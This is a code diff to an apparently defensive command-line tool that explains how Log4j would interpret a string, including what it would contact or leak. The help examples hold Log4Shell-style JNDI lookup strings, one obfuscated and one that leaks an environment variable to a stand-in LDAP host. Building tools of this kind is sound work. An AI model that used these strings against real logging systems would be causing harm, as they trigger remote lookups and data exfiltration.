@@ -1,7 +1,7 @@
 import { type Log4jVersion, problem, readLog4jVersion } from '../../core/index.ts'
-import { explain as explainText, readWorld, type World } from '../../lookup/index.ts'
-import { readJsonFile } from '../../node/index.ts'
-import type { Command } from '../command.ts'
+import { type Explanation, explain as explainText, readWorld, type World } from '../../lookup/index.ts'
+import { readJsonFile, systemClock } from '../../node/index.ts'
+import type { Command, ExitCode } from '../command.ts'
 import { inWords } from '../explain/in-words.ts'
 import { explainLines } from '../explain/json-lines.ts'
 import { choiceOption, flagOption, optionInvalid, textOption } from '../options.ts'
@@ -21,10 +21,13 @@ export const explain: Command = {
   name: 'explain',
   summary: 'Say what Log4j makes of a text: each step, what it would contact, what it would leak.',
   examples: [
-    ["fireline explain '${${::-j}ndi:ldap://x.example/a}'", 'exit code 1: it would call out'],
+    ["fireline explain '${${::-j}ndi:ldap://x.example/a}'", 'exit code 1: it calls out, or loses the log event'],
     ["fireline explain --log4j 2.3 '${jndi:ldap://x/${env:USER}}'", 'as an older release does'],
     ["fireline explain --mode message '${${::-j}ndi:ldap://x.example/a}'", 'as %m of a pattern layout does'],
-    ['fireline explain --jsonl --context context.json < strings.jsonl', 'one JSON string a line, one answer a line'],
+    [
+      'fireline explain --jsonl --context context.json < strings.jsonl',
+      'one JSON string a line, one answer a line; exit code 0',
+    ],
   ],
 
   declare(command) {
@@ -34,7 +37,7 @@ export const explain: Command = {
       .option('--mode <name>', 'once: one pass of the substitutor; message: what %m does', 'once')
       .option(
         '--context <file>',
-        'the world it sees, as JSON: env, sys, ctx, properties, java, event, at, zone, locale',
+        'the world it sees, as JSON: env, sys, ctx, properties, java, event, others, at, zone, locale',
       )
       .option('--jsonl', 'read one JSON string a line from standard input, print one JSON object a line')
   },
@@ -43,21 +46,30 @@ export const explain: Command = {
     const release = textOption(options, 'log4j') ?? ''
     const version = versionOf(release)
     const mode = choiceOption(options, 'mode', ['once', 'message'])
-    const world = await worldFrom(textOption(options, 'context'))
+    // A date without a time given is that of now, as in a message logged now.
+    const world = { at: systemClock.now(), ...(await worldFrom(textOption(options, 'context'))) }
     if (flagOption(options, 'jsonl')) {
       await explainLines(io, { version, mode, world })
       return 0
     }
     if (text === undefined) throw explainNoText()
     const explanation = explainText(text, { version, mode, world })
-    await io.print(inWords(text, release, explanation))
-    return explanation.lookups.some(({ target }) => target.is !== 'nothing') ? 1 : 0
+    await io.print(inWords(text, release, explanation, io.colour))
+    return exitCodeOf(explanation)
   },
+}
+
+/** 1: something is contacted, or Log4j loses the event. 2: we did not follow it to its end. */
+function exitCodeOf({ lookups, evaluation: { error, gaps } }: Explanation): ExitCode {
+  if (lookups.some(({ target }) => target.is !== 'nothing')) return 1
+  if (error !== null && error !== 'limit') return 1
+  return gaps.length > 0 ? 2 : 0
 }
 
 function versionOf(release: string): Log4jVersion {
   const version = readLog4jVersion(release)
-  if (version === null) throw optionInvalid('log4j', release, 'a release number, such as 2.14.1 or 2.0-beta9')
+  if (version === null || version.numbers[0] < 2)
+    throw optionInvalid('log4j', release, 'a release number, such as 2.14.1 or 2.0-beta9')
   return version
 }
 
